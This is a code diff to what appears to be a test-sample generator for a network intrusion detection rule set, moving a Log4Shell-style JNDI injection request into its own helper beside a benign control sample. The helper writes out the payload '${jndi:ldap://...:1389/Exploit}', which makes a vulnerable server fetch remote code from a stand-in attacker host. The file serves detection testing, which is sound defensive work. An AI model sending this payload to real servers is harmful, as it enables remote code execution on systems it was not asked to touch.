@@ -40,6 +40,11 @@ function post(body: string): string {
   return `POST /upload HTTP/1.1\r\nHost: nas.example.net\r\nContent-Type: application/octet-stream\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
 }
 
+/** The JNDI lookup sample's request from ATTACKER's port `port` (a flow of its own for each port). */
+export function jndiLookup(c: Capture, port: number): void {
+  http(c, ATTACKER, port, get("/", "${jndi:ldap://203.0.113.66:1389/Exploit}"));
+}
+
 function ssh(c: Capture, from: string, port: number): void {
   c.session(at(from, port), at(SERVER, 22), [["SSH-2.0-OpenSSH_9.2p1\r\n", "SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"]]);
 }
@@ -76,7 +81,7 @@ export const SAMPLES: Sample[] = [
   },
   {
     name: "JNDI lookup in HTTP",
-    attack: (c) => http(c, ATTACKER, 44_000, get("/", "${jndi:ldap://203.0.113.66:1389/Exploit}")),
+    attack: (c) => jndiLookup(c, 44_000),
     // A page about JNDI, requested by an ordinary browser.
     benign: (c) => http(c, NEIGHBOUR, 44_000, get("/docs/jndi-lookup-guide.html", "Mozilla/5.0 (jndi reader)")),
     sid: 9100003,
